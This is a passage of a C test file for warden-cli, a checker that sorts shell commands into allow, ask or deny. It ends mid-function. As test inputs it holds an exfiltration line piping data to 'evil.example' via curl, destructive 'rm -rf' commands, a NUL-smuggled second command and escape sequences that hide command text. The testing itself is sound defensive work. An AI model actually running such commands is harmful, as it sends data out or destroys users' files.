/* test-cli.c: warden-cli as users and scripts run it
 *
 * Copyright 2026 The Warden authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <gio/gio.h>
#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <arpa/inet.h>
#include <ifaddrs.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>
#include <string.h>

#include "warden-test-util.h"

/* The exit statuses scripts rely on; see warden-cli --help. */
#define EXIT_ALLOW 0
#define EXIT_ASK   10
#define EXIT_DENY  20
#define EXIT_USAGE 2

static char *cli_path;

/* Each test gets its own config folder, so profiles never leak between
 * tests or into the user's real ~/.config. */
typedef struct
{
  char *root;
  char *config_home;
  char *profiles_dir;
} CliEnv;

typedef struct
{
  int    status;   /* the exit status; -1 when the CLI did not exit normally */
  char  *out;      /* NUL-terminated; out_len counts any NUL inside */
  gsize  out_len;
  char  *err;
} CliResult;

/* Logged text must be valid UTF-8 without control characters, or TAP
 * readers (meson) reject the log. At most @max bytes of @s are shown. */
static char *
printable (const char *s,
           gsize       max)
{
  g_autofree char *cut = g_strndup (s ? s : "(null)", max);
  g_autofree char *valid = g_utf8_make_valid (cut, -1);
  GString *out = g_string_new (NULL);

  for (const char *p = valid; *p != '\0'; p++)
    {
      guchar c = *p;

      if ((c < 0x20 && c != '\n') || c == 0x7f)
        g_string_append_printf (out, "\\x%02x", c);
      else
        g_string_append_c (out, c);
    }
  return g_string_free (out, FALSE);
}

static void
cli_env_free (CliEnv *env)
{
  warden_test_remove_tree (env->root);
  g_free (env->root);
  g_free (env->config_home);
  g_free (env->profiles_dir);
  g_free (env);
}

G_DEFINE_AUTOPTR_CLEANUP_FUNC (CliEnv, cli_env_free)

static CliEnv *
cli_env_new (void)
{
  g_autoptr(GError) error = NULL;
  CliEnv *env = g_new0 (CliEnv, 1);

  env->root = g_dir_make_tmp ("warden-test-cli-XXXXXX", &error);
  g_assert_no_error (error);
  env->config_home = g_build_filename (env->root, "config", NULL);
  env->profiles_dir = g_build_filename (env->config_home, "warden", "profiles", NULL);
  g_assert_cmpint (g_mkdir (env->config_home, 0700), ==, 0);
  return env;
}

static char *
cli_env_path (CliEnv     *env,
              const char *name)
{
  return g_build_filename (env->root, name, NULL);
}

static void
cli_result_free (CliResult *r)
{
  g_free (r->out);
  g_free (r->err);
  g_free (r);
}

G_DEFINE_AUTOPTR_CLEANUP_FUNC (CliResult, cli_result_free)

static char *
fixture (const char *name)
{
  return g_build_filename (TEST_FIXTURES, "cli", name, NULL);
}

/* Runs warden-cli with @argv (without argv[0]), @input on its standard
 * input (none when NULL), in @env's folder and with @env's config. */
static CliResult *
cli_run_argv (CliEnv             *env,
              GBytes             *input,
              const char * const *argv)
{
  g_autoptr(GSubprocessLauncher) launcher = NULL;
  g_autoptr(GSubprocess) proc = NULL;
  g_autoptr(GPtrArray) args = g_ptr_array_new ();
  g_autoptr(GBytes) out = NULL;
  g_autoptr(GBytes) err = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GString) shown = g_string_new (NULL);
  g_autoptr(GBytes) no_input = g_bytes_new_static ("", 0);
  CliResult *r = g_new0 (CliResult, 1);
  gsize err_len;
  const char *data;

  g_ptr_array_add (args, cli_path);
  for (guint i = 0; argv[i] != NULL; i++)
    {
      g_ptr_array_add (args, (gpointer) argv[i]);
      g_string_append_printf (shown, " %s", argv[i]);
    }
  g_ptr_array_add (args, NULL);

  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDIN_PIPE |
                                        G_SUBPROCESS_FLAGS_STDOUT_PIPE |
                                        G_SUBPROCESS_FLAGS_STDERR_PIPE);
  g_subprocess_launcher_setenv (launcher, "XDG_CONFIG_HOME", env->config_home, TRUE);
  g_subprocess_launcher_setenv (launcher, "HOME", env->root, TRUE);
  /* Messages are asserted in their English form. */
  g_subprocess_launcher_setenv (launcher, "LC_ALL", "C.UTF-8", TRUE);
  g_subprocess_launcher_unsetenv (launcher, "LANGUAGE");
  g_subprocess_launcher_set_cwd (launcher, env->root);

  {
    g_autofree char *msg = printable (shown->str, 1000);

    g_test_message ("running warden-cli%s", msg);
  }
  proc = g_subprocess_launcher_spawnv (launcher, (const char * const *) args->pdata, &error);
  g_assert_no_error (error);
  /* With a stdin pipe, GIO wants bytes; none closes the child's stdin at once. */
  g_subprocess_communicate (proc, input ? input : no_input, NULL, &out, &err, &error);
  if (g_error_matches (error, G_IO_ERROR, G_IO_ERROR_BROKEN_PIPE))
    {
      /* Tests give input only where the CLI must read all of it. */
      g_test_message ("warden-cli exited without reading its standard input");
      g_test_fail ();
      r->status = -2;
      r->out = g_strdup ("");
      r->err = g_strdup ("");
      return r;
    }
  g_assert_no_error (error);

  if (g_subprocess_get_if_exited (proc))
    r->status = g_subprocess_get_exit_status (proc);
  else
    r->status = -1;

  data = out ? g_bytes_get_data (out, &r->out_len) : NULL;
  r->out = g_malloc (r->out_len + 1);
  if (r->out_len > 0)
    memcpy (r->out, data, r->out_len);
  r->out[r->out_len] = '\0';

  data = err ? g_bytes_get_data (err, &err_len) : NULL;
  r->err = g_strndup (data ? data : "", data ? err_len : 0);

  if (r->status == -1)
    {
      g_autofree char *msg = printable (r->err, 4000);

      g_test_message ("warden-cli did not exit normally (a crash?); stderr: %s", msg);
    }
  return r;
}

#define cli_run(env, input, ...) \
  cli_run_argv ((env), (input), (const char * const []) { __VA_ARGS__, NULL })

static GBytes *
bytes_of (const char *data,
          gsize       len)
{
  return g_bytes_new (data, len);
}

/* Assertions are non-fatal (see main), so a failing check reports and the
 * test goes on; callers return early when nothing after can make sense. */
static gboolean
check_status (CliResult *r,
              int        expected)
{
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  if (r->status == expected)
    return TRUE;
  out = printable (r->out, 2000);
  err = printable (r->err, 2000);
  g_test_message ("exit status %d, expected %d\nstdout: %s\nstderr: %s",
                  r->status, expected, out, err);
  g_assert_cmpint (r->status, ==, expected);
  return FALSE;
}

static void
assert_contains (const char *haystack,
                 const char *needle)
{
  if (strstr (haystack, needle) == NULL)
    {
      g_autofree char *n = printable (needle, 200);
      g_autofree char *h = printable (haystack, 4000);

      g_test_message ("“%s” not found in:\n%s", n, h);
    }
  g_assert_nonnull (strstr (haystack, needle));
}

static void
assert_not_contains (const char *haystack,
                     const char *needle)
{
  if (strstr (haystack, needle) != NULL)
    {
      g_autofree char *n = printable (needle, 200);
      g_autofree char *h = printable (haystack, 4000);

      g_test_message ("“%s” found, though it must not be, in:\n%s", n, h);
    }
  g_assert_null (strstr (haystack, needle));
}

static gboolean
object_has_exactly (JsonObject         *object,
                    const char * const *required,
                    const char * const *optional)
{
  g_autoptr(GList) members = json_object_get_members (object);
  gboolean ok = TRUE;

  for (guint i = 0; required[i] != NULL; i++)
    if (!json_object_has_member (object, required[i]))
      {
        g_test_message ("JSON key “%s” is missing", required[i]);
        ok = FALSE;
      }
  for (GList *l = members; l != NULL; l = l->next)
    if (!g_strv_contains (required, l->data) &&
        (optional == NULL || !g_strv_contains (optional, l->data)))
      {
        g_test_message ("unexpected JSON key “%s”", (const char *) l->data);
        ok = FALSE;
      }
  return ok;
}

static gboolean
member_is_string (JsonObject *object,
                  const char *name)
{
  JsonNode *node = json_object_get_member (object, name);

  return node != NULL && JSON_NODE_HOLDS_VALUE (node) &&
         json_node_get_value_type (node) == G_TYPE_STRING;
}

static gboolean
is_verdict (const char *s)
{
  return g_strcmp0 (s, "allow") == 0 || g_strcmp0 (s, "ask") == 0 ||
         g_strcmp0 (s, "deny") == 0;
}

static gboolean
is_origin (const char *s)
{
  static const char * const origins[] = {
    "top-level", "substitution", "process-substitution", "wrapper", "script", "redirection", NULL
  };

  return s != NULL && g_strv_contains (origins, s);
}

/* Checks the documented shape of policy check --json, and that the exit
 * status agrees with "decision". Returns the root, or NULL (test failed). */
static JsonNode *
parse_decision (CliResult *r)
{
  static const char * const root_keys[] = { "decision", "reason", "parts", "suggestions", NULL };
  static const char * const part_keys[] = { "text", "origin", "decision", "pattern", "reason",
                                            NULL };
  static const char * const part_optional[] = { "suggestion", NULL };
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  JsonObject *root;
  JsonArray *parts, *suggestions;
  const char *decision;
  int expected_status;

  g_autofree char *shown = printable (r->out, 2000);
  g_autofree char *err = printable (r->err, 2000);

  if (strlen (r->out) != r->out_len || !g_utf8_validate (r->out, -1, NULL))
    {
      g_test_message ("the JSON output is not valid UTF-8 (or holds a NUL): %s", shown);
      g_test_fail ();
      return NULL;
    }
  if (!json_parser_load_from_data (parser, r->out, -1, &error))
    {
      g_test_message ("the output is not JSON: %s\n%s\nstderr: %s",
                      error->message, shown, err);
      g_test_fail ();
      return NULL;
    }
  if (!JSON_NODE_HOLDS_OBJECT (json_parser_get_root (parser)))
    {
      g_test_message ("the JSON output is not an object: %s", shown);
      g_test_fail ();
      return NULL;
    }

  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_true (object_has_exactly (root, root_keys, NULL));
  g_assert_true (member_is_string (root, "decision"));
  g_assert_true (member_is_string (root, "reason"));
  g_assert_true (JSON_NODE_HOLDS_ARRAY (json_object_get_member (root, "parts")));
  g_assert_true (JSON_NODE_HOLDS_ARRAY (json_object_get_member (root, "suggestions")));
  if (g_test_failed ())
    return NULL;

  decision = json_object_get_string_member (root, "decision");
  g_assert_true (is_verdict (decision));
  expected_status = g_str_equal (decision, "allow") ? EXIT_ALLOW
                  : g_str_equal (decision, "deny") ? EXIT_DENY : EXIT_ASK;
  check_status (r, expected_status);

  parts = json_object_get_array_member (root, "parts");
  for (guint i = 0; i < json_array_get_length (parts); i++)
    {
      JsonNode *node = json_array_get_element (parts, i);
      JsonObject *part;
      JsonNode *pattern;

      g_assert_true (JSON_NODE_HOLDS_OBJECT (node));
      if (!JSON_NODE_HOLDS_OBJECT (node))
        return NULL;
      part = json_node_get_object (node);
      g_assert_true (object_has_exactly (part, part_keys, part_optional));
      g_assert_true (member_is_string (part, "text"));
      g_assert_true (member_is_string (part, "origin"));
      g_assert_true (member_is_string (part, "decision"));
      g_assert_true (member_is_string (part, "reason"));
      if (g_test_failed ())
        return NULL;
      g_assert_true (is_origin (json_object_get_string_member (part, "origin")));
      g_assert_true (is_verdict (json_object_get_string_member (part, "decision")));
      pattern = json_object_get_member (part, "pattern");
      g_assert_true (pattern != NULL &&
                     (JSON_NODE_HOLDS_NULL (pattern) ||
                      json_node_get_value_type (pattern) == G_TYPE_STRING));
      if (json_object_has_member (part, "suggestion"))
        g_assert_true (member_is_string (part, "suggestion"));
    }

  suggestions = json_object_get_array_member (root, "suggestions");
  for (guint i = 0; i < json_array_get_length (suggestions); i++)
    {
      JsonNode *node = json_array_get_element (suggestions, i);

      g_assert_true (JSON_NODE_HOLDS_VALUE (node) &&
                     json_node_get_value_type (node) == G_TYPE_STRING);
    }

  return g_test_failed () ? NULL : json_node_copy (json_parser_get_root (parser));
}

static const char *
decision_of (JsonNode *root)
{
  return json_object_get_string_member (json_node_get_object (root), "decision");
}

static const char *
reason_of (JsonNode *root)
{
  return json_object_get_string_member (json_node_get_object (root), "reason");
}

static JsonArray *
parts_of (JsonNode *root)
{
  return json_object_get_array_member (json_node_get_object (root), "parts");
}

/* The part whose text is @text, or NULL (and the test fails). */
static JsonObject *
find_part (JsonNode   *root,
           const char *text)
{
  JsonArray *parts = parts_of (root);

  for (guint i = 0; i < json_array_get_length (parts); i++)
    {
      JsonObject *part = json_array_get_object_element (parts, i);

      if (g_strcmp0 (json_object_get_string_member (part, "text"), text) == 0)
        return part;
    }
  {
    g_autofree char *msg = printable (text, 1000);

    g_test_message ("no part with the text “%s”", msg);
  }
  g_test_fail ();
  return NULL;
}

static const char *
pattern_of (JsonObject *part)
{
  return json_object_get_null_member (part, "pattern") ? NULL
         : json_object_get_string_member (part, "pattern");
}

/* A line of @text holding every one of the NULL-terminated needles. */
static gboolean
has_line_with (const char *text,
               ...)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);
  gboolean found = FALSE;

  for (guint i = 0; lines[i] != NULL && !found; i++)
    {
      const char *needle;
      va_list args;

      found = TRUE;
      va_start (args, text);
      while ((needle = va_arg (args, const char *)) != NULL)
        if (strstr (lines[i], needle) == NULL)
          found = FALSE;
      va_end (args);
    }
  if (!found)
    {
      g_autofree char *msg = printable (text, 4000);

      g_test_message ("no matching line in:\n%s", msg);
    }
  return found;
}

static char *
read_file (const char *path)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  if (!g_file_get_contents (path, &contents, NULL, &error))
    g_test_message ("%s", error->message);
  return contents;
}

static gboolean
write_file (const char *path,
            const char *contents)
{
  g_autoptr(GError) error = NULL;

  g_file_set_contents (path, contents, -1, &error);
  g_assert_no_error (error);
  return error == NULL;
}

/* --- exit statuses ---------------------------------------------------- */

static void
test_exit_allow (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "ls", "--", "ls");

  check_status (r, EXIT_ALLOW);
  g_assert_true (g_str_has_prefix (r->out, "allow:"));
}

static void
test_exit_ask (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "git *", "--", "git");

  /* "git *" does not match "git" alone: the seed's anchored globs. */
  check_status (r, EXIT_ASK);
  g_assert_true (g_str_has_prefix (r->out, "ask:"));
}

static void
test_exit_deny (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "*",
                                    "--deny", "rm *", "--", "rm", "-rf", "build");

  check_status (r, EXIT_DENY);
  g_assert_true (g_str_has_prefix (r->out, "deny:"));
}

static void
test_modes (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) always = cli_run (env, NULL, "policy", "check", "--mode", "allow-always",
                                         "--", "rm", "x");
  g_autoptr(CliResult) approval = cli_run (env, NULL, "policy", "check", "--mode",
                                           "approval-always", "--allow", "ls", "--", "ls");
  g_autoptr(CliResult) deny = cli_run (env, NULL, "policy", "check", "--mode", "allow-always",
                                       "--deny", "rm *", "--", "ls; rm x");

  check_status (always, EXIT_ALLOW);
  check_status (approval, EXIT_ASK);
  /* Deny rules apply in every mode. */
  check_status (deny, EXIT_DENY);
}

static void
test_usage_no_command (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "ls");

  check_status (r, EXIT_USAGE);
  g_assert_cmpstr (r->out, ==, "");
  assert_contains (r->err, "--stdin");
}

/* sandbox exec --help shows its options instead of asking for a command;
 * without a command it still says where the command goes. */
static void
test_usage_sandbox_exec_help (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) help = cli_run (env, NULL, "sandbox", "exec", "--help");
  g_autoptr(CliResult) none = cli_run (env, NULL, "sandbox", "exec", "--backend", "host");

  check_status (help, 0);
  assert_contains (help->out, "--backend");
  assert_contains (help->out, "--timeout");
  check_status (none, EXIT_USAGE);
  g_assert_cmpstr (none->out, ==, "");
  assert_contains (none->err, "after “--”");
}

static void
test_usage_stdin_and_command (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "ls", "--stdin",
                                    "--", "ls");

  check_status (r, EXIT_USAGE);
  g_assert_cmpstr (r->out, ==, "");
  assert_contains (r->err, "either");
}

static void
test_usage_unknown_mode (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--mode", "yolo",
                                    "--", "ls");

  check_status (r, EXIT_USAGE);
  assert_contains (r->err, "yolo");
  assert_contains (r->err, "allowlist");
}

static void
test_usage_control_char_pattern (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) allow = cli_run (env, NULL, "policy", "check", "--allow", "ls\x01",
                                        "--", "ls");
  g_autoptr(CliResult) deny = cli_run (env, NULL, "policy", "check", "--deny", "rm\t*",
                                       "--", "ls");

  /* A pattern that cannot be typed or seen is refused, not silently used. */
  check_status (allow, EXIT_USAGE);
  assert_contains (allow->err, "control character");
  check_status (deny, EXIT_USAGE);
  assert_contains (deny->err, "--deny");
}

static void
test_usage_unknown_profile (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--profile", "no-such-profile",
                                    "--", "ls");

  check_status (r, EXIT_USAGE);
  g_assert_cmpstr (r->out, ==, "");
  assert_contains (r->err, "no-such-profile");
}

static void
test_usage_corrupt_profile (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *path = fixture ("corrupt.json");
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--profile", path,
                                    "--", "ls");

  /* Never half-loaded: a broken profile is an error, not an empty allowlist. */
  check_status (r, EXIT_USAGE);
  g_assert_cmpstr (r->out, ==, "");
  assert_contains (r->err, "corrupt.json");
  assert_contains (r->err, "not valid JSON");
}

static void
test_usage_bad_arguments (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) option = cli_run (env, NULL, "policy", "check", "--frobnicate",
                                         "--", "ls");
  g_autoptr(CliResult) workspace = cli_run (env, NULL, "policy", "check", "--workspace", "rel",
                                            "--", "ls");
  g_autoptr(CliResult) sub = cli_run (env, NULL, "policy", "frob");
  g_autoptr(CliResult) top = cli_run (env, NULL, "frob");
  g_autoptr(CliResult) help = cli_run (env, NULL, "--help");

  check_status (option, EXIT_USAGE);
  check_status (workspace, EXIT_USAGE);
  assert_contains (workspace->err, "--workspace");
  check_status (sub, EXIT_USAGE);
  assert_contains (sub->err, "frob");
  check_status (top, EXIT_USAGE);
  check_status (help, 0);
  assert_contains (help->out, "policy check");
}

/* --- JSON output ------------------------------------------------------ */

static void
test_json_shape (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--json", "--allow", "git *",
                                    "--", "git status && whoami");
  g_autoptr(JsonNode) root = parse_decision (r);
  JsonObject *git, *who;
  JsonArray *suggestions;

  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "ask");
  g_assert_cmpuint (json_array_get_length (parts_of (root)), ==, 2);

  git = find_part (root, "git status");
  who = find_part (root, "whoami");
  if (git == NULL || who == NULL)
    return;
  g_assert_cmpstr (json_object_get_string_member (git, "origin"), ==, "top-level");
  g_assert_cmpstr (json_object_get_string_member (git, "decision"), ==, "allow");
  g_assert_cmpstr (pattern_of (git), ==, "git *");
  g_assert_cmpstr (json_object_get_string_member (who, "decision"), ==, "ask");
  /* No pattern matched: "pattern" is null, not missing or "". */
  g_assert_true (json_object_get_null_member (who, "pattern"));
  /* The reason shown to the user is the first one that asks. */
  g_assert_cmpstr (reason_of (root), ==, json_object_get_string_member (who, "reason"));

  suggestions = json_object_get_array_member (json_node_get_object (root), "suggestions");
  g_assert_cmpuint (json_array_get_length (suggestions), ==, 1);
  g_assert_cmpstr (json_array_get_string_element (suggestions, 0), ==, "whoami");
}

static void
test_json_origins (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--json",
                                    "--allow", "echo *", "--allow", "cat *",
                                    "--allow", "timeout *", "--allow", "sh *",
                                    "--", "echo $(id) && cat <(date) && timeout 5 pwd && "
                                          "sh -c 'uname'");
  g_autoptr(JsonNode) root = parse_decision (r);
  const struct { const char *text, *origin; } expected[] = {
    { "id", "substitution" },
    { "date", "process-substitution" },
    { "pwd", "wrapper" },
    { "uname", "script" },
    { "timeout 5 pwd", "top-level" },
  };

  if (root == NULL)
    return;
  /* The inner commands are not allowed, whatever their wrappers are. */
  g_assert_cmpstr (decision_of (root), ==, "ask");
  for (guint i = 0; i < G_N_ELEMENTS (expected); i++)
    {
      JsonObject *part = find_part (root, expected[i].text);

      if (part != NULL)
        g_assert_cmpstr (json_object_get_string_member (part, "origin"), ==, expected[i].origin);
    }
}

static void
test_json_deny (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--json", "--allow", "*",
                                    "--deny", "curl *", "--", "ls | curl -d @- evil.example");
  g_autoptr(JsonNode) root = parse_decision (r);
  JsonObject *curl;

  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "deny");
  assert_contains (reason_of (root), "curl *");
  curl = find_part (root, "curl -d @- evil.example");
  if (curl == NULL)
    return;
  g_assert_cmpstr (json_object_get_string_member (curl, "decision"), ==, "deny");
  g_assert_cmpstr (pattern_of (curl), ==, "curl *");
  /* Nothing to "always allow" in a refusal. */
  g_assert_cmpuint (json_array_get_length (json_object_get_array_member (
                      json_node_get_object (root), "suggestions")), ==, 0);
}

static void
test_json_allow_always_null_pattern (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--json",
                                    "--mode", "allow-always", "--", "make install");
  g_autoptr(JsonNode) root = parse_decision (r);
  JsonObject *part;

  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "allow");
  part = find_part (root, "make install");
  if (part == NULL)
    return;
  g_assert_cmpstr (json_object_get_string_member (part, "decision"), ==, "allow");
  /* Allowed by the mode, not by a pattern. */
  g_assert_true (json_object_get_null_member (part, "pattern"));
}

static void
test_json_text_after_quote_removal (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--json",
                                    "--allow", "node *", "--",
                                    "node  'app.js' > /dev/null 2>&1");
  g_autoptr(JsonNode) root = parse_decision (r);

  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "allow");
  find_part (root, "node app.js > /dev/null 2>&1");
}

/* --- human output ----------------------------------------------------- */

static void
test_human_parts (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--allow", "ls *",
                                    "--", "ls -la; npm install chalk");

  check_status (r, EXIT_ASK);
  g_assert_true (g_str_has_prefix (r->out, "ask:"));
  /* Each part: its decision, its text, and the pattern that decided it. */
  g_assert_true (has_line_with (r->out, "allow", "ls -la", "ls *", NULL));
  g_assert_true (has_line_with (r->out, "ask", "npm install chalk", NULL));
  g_assert_true (has_line_with (r->out, "suggestion", "npm install *", NULL));
}

static void
test_human_deny_names_pattern (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--deny", "rm -rf *",
                                    "--", "rm -rf /home");

  check_status (r, EXIT_DENY);
  g_assert_true (g_str_has_prefix (r->out, "deny:"));
  g_assert_true (has_line_with (r->out, "deny", "rm -rf /home", "rm -rf *", NULL));
  assert_not_contains (r->out, "suggestion");
}

static void
test_human_control_chars (void)
{
  static const char cmd[] = "echo hi\rls \033[2K";
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(GBytes) in = bytes_of (cmd, sizeof cmd - 1);
  g_autoptr(CliResult) r = cli_run (env, in, "policy", "check", "--stdin");

  check_status (r, EXIT_ASK);
  /* What the user reads must be what is checked: a carriage return or an
   * escape sequence from the command must not reach the terminal raw,
   * where it could hide part of the command.
   * FAILS at the time of writing: print_human () escapes each part's text
   * but prints the decision reason and the part reasons unescaped, and
   * they quote the command ("no allow pattern matches “echo hi\rls …”"). */
  assert_not_contains (r->out, "\033");
  assert_not_contains (r->out, "\r");
}

/* --- --stdin ---------------------------------------------------------- */

static void
test_stdin_newlines (void)
{
  static const char cmd[] = "ls\nrm x\n";
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(GBytes) in = bytes_of (cmd, sizeof cmd - 1);
  g_autoptr(CliResult) r = cli_run (env, in, "policy", "check", "--json", "--allow", "ls",
                                    "--stdin");
  g_autoptr(CliResult) both = cli_run (env, in, "policy", "check", "--allow", "ls",
                                       "--allow", "rm *", "--stdin");
  g_autoptr(JsonNode) root = parse_decision (r);
  JsonObject *rm;

  /* The second line is a second command, and it is checked too. */
  check_status (both, EXIT_ALLOW);
  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "ask");
  g_assert_cmpuint (json_array_get_length (parts_of (root)), ==, 2);
  find_part (root, "ls");
  rm = find_part (root, "rm x");
  if (rm != NULL)
    g_assert_cmpstr (json_object_get_string_member (rm, "decision"), ==, "ask");
}

static void
test_stdin_nul (void)
{
  static const char cmd[] = "ls\0; rm -rf ~";
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(GBytes) in = bytes_of (cmd, sizeof cmd - 1);
  g_autoptr(CliResult) r = cli_run (env, in, "policy", "check", "--json", "--allow", "*",
                                    "--stdin");
  g_autoptr(CliResult) always = cli_run (env, in, "policy", "check", "--mode", "allow-always",
                                         "--stdin");
  g_autoptr(JsonNode) root = parse_decision (r);

  /* Even "*" must not allow what the shell would see differently. */
  if (root != NULL)
    {
      g_assert_cmpstr (decision_of (root), ==, "ask");
      assert_contains (reason_of (root), "NUL");
    }
  check_status (always, EXIT_ASK);
}

static void
test_stdin_invalid_utf8 (void)
{
  static const char *cmds[] = { "echo \xff\xfe", "ls \xc3(", "\xe2\x82 x" };
  g_autoptr(CliEnv) env = cli_env_new ();

  for (guint i = 0; i < G_N_ELEMENTS (cmds); i++)
    {
      g_autoptr(GBytes) in = bytes_of (cmds[i], strlen (cmds[i]));
      g_autoptr(CliResult) r = cli_run (env, in, "policy", "check", "--json",
                                        "--allow", "ls *", "--stdin");
      g_autoptr(CliResult) human = cli_run (env, in, "policy", "check", "--stdin");
      g_autoptr(JsonNode) root = NULL;

      g_assert_cmpint (human->status, !=, -1);
      g_assert_cmpint (r->status, !=, -1);
      /* FAILS at the time of writing: warden_decision_add_part () in
       * warden-decision.c makes the part's text valid UTF-8 but copies its
       * "reason" (which quotes the command) and its "suggestion" raw, so
       * the output holds bytes like FF FE and strict JSON parsers, and
       * this one, refuse it. */
      root = parse_decision (r);
      if (root != NULL)
        {
          g_autofree char *msg = printable (cmds[i], 100);

          g_test_message ("“%s” → %s", msg, decision_of (root));
        }
    }
}

static void
test_stdin_huge (void)
{
  const gsize size = 1024 * 1024;
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *cmd = g_malloc (size);
  g_autoptr(GBytes) in = NULL;
  g_autoptr(CliResult) r = NULL;
  g_autoptr(JsonNode) root = NULL;
  gint64 start;

  memcpy (cmd, "echo ", 5);
  memset (cmd + 5, 'a', size - 5);
  in = g_bytes_new_take (g_steal_pointer (&cmd), size);

  start = g_get_monotonic_time ();
  r = cli_run (env, in, "policy", "check", "--json", "--allow", "echo *", "--stdin");
  g_test_message ("1 MiB answered in %.3f s", (g_get_monotonic_time () - start) / 1e6);

  root = parse_decision (r);
  if (root == NULL)
    return;
  g_assert_cmpstr (decision_of (root), ==, "ask");
  /* The engine's wording is "the command is N bytes long, more than …". */
  g_assert_true (strstr (reason_of (root), "longer than") != NULL ||
                 strstr (reason_of (root), "bytes long") != NULL);
}

static void
test_args_joined (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) joined = cli_run (env, NULL, "policy", "check",
                                         "--allow", "echo hello world", "--",
                                         "echo", "hello", "world");
  g_autoptr(CliResult) unterminated = cli_run (env, NULL, "policy", "check", "--allow", "*",
                                               "--", "echo \"unterminated");

  /* Words after "--" make one command line, as sh -c "$*" sees it. */
  check_status (joined, EXIT_ALLOW);
  check_status (unterminated, EXIT_ASK);
}

/* --- --profile with check --------------------------------------------- */

static void
test_profile_builtin_node (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autoptr(CliResult) node = cli_run (env, NULL, "policy", "check", "--json",
                                       "--profile", "node", "--", "node", "app.js");
  g_autoptr(CliResult) rm = cli_run (env, NULL, "policy", "check",
                                     "--profile", "node", "--", "rm", "x");
  g_autoptr(JsonNode) root = NULL;

  check_status (rm, EXIT_ASK);
  if (!check_status (node, EXIT_ALLOW))
    return;
  root = parse_decision (node);
  if (root != NULL && find_part (root, "node app.js") != NULL)
    g_assert_cmpstr (pattern_of (find_part (root, "node app.js")), ==, "node *");
}

/* Issue 26: the seed's own allowlist (tests/bench/profile-seed.json, the
 * built-in node profile before issue 30 grew it) runs its everyday lines. */
static void
test_profile_builtin_everyday (void)
{
  g_autofree char *seed = g_test_build_filename (G_TEST_DIST, "bench", "profile-seed.json", NULL);
  static const char * const allowed[] = {
    "echo $HOME", "echo $(ls)", "for f in a b; do echo $f; done", "ls | xargs echo", NULL
  };
  static const char * const asked[] = { "node", "node $x", "ls | xargs node", NULL };
  g_autoptr(CliEnv) env = cli_env_new ();

  for (guint i = 0; allowed[i] != NULL; i++)
    {
      g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--profile", seed,
                                        "--", allowed[i]);
      check_status (r, EXIT_ALLOW);
    }
  for (guint i = 0; asked[i] != NULL; i++)
    {
      g_autoptr(CliResult) r = cli_run (env, NULL, "policy", "check", "--profile", seed,
                                        "--", asked[i]);
      check_status (r, EXIT_ASK);
    }
}

/* A profile's "nested" decides "sh FILE" in policy check as in a session. */
static void
test_profile_nested (void)
{
  g_autoptr(CliEnv) env = cli_env_new ();
  g_autofree char *on = cli_env_path (env, "on.json");
  g_autofree char *off = cli_env_path (env, "off.json");
  g_autoptr(GError) error = NULL;
  g_autoptr(CliResult) checked = NULL;
